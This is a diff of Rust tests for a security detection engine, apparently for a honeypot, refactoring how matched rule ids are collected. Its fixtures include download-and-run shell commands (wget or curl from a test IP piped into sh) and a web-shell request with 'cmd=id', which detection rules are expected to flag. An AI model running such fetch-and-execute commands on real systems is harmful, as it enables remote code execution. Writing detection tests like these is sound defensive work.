@@ -61,7 +61,8 @@ fn a_count_correlation_fires_at_n_and_again_after_per_source() {
     }
     // Another source does not add up with the first.
     assert!(run(&mut e, &failed_login("198.51.100.1", 4)).is_empty());
-    let fifth = run(&mut e, &failed_login("203.0.113.7", 5));
+    let fifth_event = failed_login("203.0.113.7", 5);
+    let fifth = run(&mut e, &fifth_event);
     assert_eq!(fifth.len(), 1, "{fifth:?}");
     let m = &fifth[0];
     assert_eq!(m.rule.id, "brute");
@@ -72,7 +73,7 @@ fn a_count_correlation_fires_at_n_and_again_after_per_source() {
         Some("203.0.113.7")
     );
     assert_eq!(m.initial_count, 5);
-    assert_eq!(m.earlier_events.len(), 4);
+    assert_eq!(m.earlier_event_ids(fifth_event.id).len(), 4);
     // The sixth fires again (it folds into the alert).
     assert_eq!(run(&mut e, &failed_login("203.0.113.7", 6)).len(), 1);
     // The detection referenced only by the correlation raises nothing itself.
@@ -142,7 +143,10 @@ detection:
     );
     let mut ev = failed_login("203.0.113.7", 0);
     ev.src_port = Some(40_000);
-    let ids: HashSet<String> = run(&mut e, &ev).into_iter().map(|m| m.rule.id).collect();
+    let ids: HashSet<String> = run(&mut e, &ev)
+        .into_iter()
+        .map(|m| m.rule.id.clone())
+        .collect();
     assert_eq!(
         ids,
         HashSet::from(["mods".into(), "kw".into(), "num".into()])
@@ -150,7 +154,7 @@ detection:
     let filtered = failed_login("203.0.113.99", 1);
     let ids: HashSet<String> = run(&mut e, &filtered)
         .into_iter()
-        .map(|m| m.rule.id)
+        .map(|m| m.rule.id.clone())
         .collect();
     assert!(!ids.contains("mods"), "{ids:?}");
     // A detection groups by source address.
@@ -201,7 +205,10 @@ detection:
         .with("path", "/shell.php")
         .with("query", "cmd=id");
     web.src_ip = Some("198.51.100.4".parse().unwrap());
-    let ids: Vec<String> = run(&mut e, &web).into_iter().map(|m| m.rule.id).collect();
+    let ids: Vec<String> = run(&mut e, &web)
+        .into_iter()
+        .map(|m| m.rule.id.clone())
+        .collect();
     assert_eq!(ids, ["web"]);
     let cmd = Event::new("hp", Kind::SshCommand, Severity::Medium, "")
         .with("input", "wget http://203.0.113.9/x; sh x")
@@ -210,7 +217,10 @@ detection:
             json!([{"image": "/usr/bin/wget", "command_line": "wget http://203.0.113.9/x", "parent_image": "/bin/bash"},
                    {"image": "/usr/bin/sh", "command_line": "sh x", "parent_image": "/bin/bash"}]),
         );
-    let ids: Vec<String> = run(&mut e, &cmd).into_iter().map(|m| m.rule.id).collect();
+    let ids: Vec<String> = run(&mut e, &cmd)
+        .into_iter()
+        .map(|m| m.rule.id.clone())
+        .collect();
     assert_eq!(ids, ["proc"]);
 }
 
@@ -232,7 +242,10 @@ fn the_built_in_pack_compiles_and_routes_brute_force() {
     let mut ok = Event::new("hp", Kind::SshLoginSuccess, Severity::Medium, "in");
     ok.src_ip = Some("203.0.113.7".parse().unwrap());
     ok.time = Timestamp::from_micros(1_800_000_013_000_000).unwrap();
-    let after: Vec<String> = run(&mut e, &ok).into_iter().map(|m| m.rule.id).collect();
+    let after: Vec<String> = run(&mut e, &ok)
+        .into_iter()
+        .map(|m| m.rule.id.clone())
+        .collect();
     assert!(
         after.contains(&"nectar.login-after-failures".to_owned()),
         "{after:?}"
@@ -252,7 +265,10 @@ fn the_pack_reads_a_download_piped_into_a_shell_from_the_command_line() {
     let mut cmd = Event::new("hp", Kind::SshCommand, Severity::Medium, "")
         .with("input", "cd /tmp; curl -s http://198.51.100.9/x.sh | sh");
     cmd.src_ip = Some("198.51.100.1".parse().unwrap());
-    let ids: Vec<String> = run(&mut e, &cmd).into_iter().map(|m| m.rule.id).collect();
+    let ids: Vec<String> = run(&mut e, &cmd)
+        .into_iter()
+        .map(|m| m.rule.id.clone())
+        .collect();
     assert!(
         ids.contains(&"nectar.shell-download-and-run".to_owned()),
         "{ids:?}"
